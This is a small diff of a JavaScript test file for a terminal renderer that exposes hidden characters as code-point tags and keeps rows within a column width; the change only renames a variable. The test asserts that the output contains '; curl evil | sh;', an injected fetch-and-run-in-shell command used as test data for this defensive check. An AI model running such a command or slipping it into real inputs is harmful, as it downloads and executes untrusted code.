@@ -21,9 +21,9 @@ test.for(hidden)('no row hides what is between two of %j, or begins without its 
     const rows = barredRows(revealHidden(`+${text}\n+next`), columns);
     expect(rows.filter((row) => !/^│[ ↳][^\p{C}\p{Zl}\p{Zp}]*$/u.test(row))).toEqual([]);
     const number = `<${(character.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}>`;
-    const shown = rows.map((row) => row.slice(2)).join('');
-    expect(shown.split(number)).toHaveLength(text.split(character.slice(0, 1)).length);
-    expect(shown).toContain('; curl evil | sh;');
+    const joined = rows.map((row) => row.slice(2)).join('');
+    expect(joined.split(number)).toHaveLength(text.split(character.slice(0, 1)).length);
+    expect(joined).toContain('; curl evil | sh;');
     expect(Math.max(...[...rows, ...quotedRows(text, columns)].map(columnsOf))).toBeLessThan(columns);
   }
 });
